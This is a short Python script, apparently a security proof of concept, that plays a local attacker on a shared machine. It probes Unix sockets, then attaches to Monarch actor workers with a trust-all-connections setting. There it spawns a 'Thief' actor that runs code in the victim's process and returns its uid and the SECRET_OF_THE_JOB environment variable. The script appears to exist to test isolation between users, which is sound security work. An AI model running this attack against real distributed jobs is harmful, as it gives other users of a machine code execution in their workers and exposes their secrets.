"""What another user of the machine may try: python attack.py call|spawn SECONDS NAME ...

call    connect to each name; prints those that answer
spawn   attach to each as a controller does, and run code there; prints what it found
"""

from __future__ import annotations

import os
import socket
import sys


def call(name: str) -> str:
    with socket.socket(socket.AF_UNIX) as caller:
        try:
            caller.connect("\0" + name[1:] if name[0] == "@" else name)
        except OSError:
            return ""
    return name


def spawn(name: str) -> str:
    import monarch.actor
    from monarch.actor import Actor, attach_to_workers, endpoint

    class Thief(Actor):
        @endpoint
        def take(self) -> str:
            return f"{os.getuid()} {os.environ.get('SECRET_OF_THE_JOB')}"

    monarch.actor.unhandled_fault_hook = lambda failure: None
    hosts = attach_to_workers(ca="trust_all_connections", workers=[f"ipc://{name}"], name="gens")
    thief = hosts.spawn_procs({"gpus": 1}).spawn("thief", Thief)
    return str(thief.take.call_one().get(timeout=float(sys.argv[2])))


if __name__ == "__main__":
    for one in sys.argv[3:]:
        if found := {"call": call, "spawn": spawn}[sys.argv[1]](one):
            print(found, flush=True)
    sys.stdout.flush()
    os._exit(0)
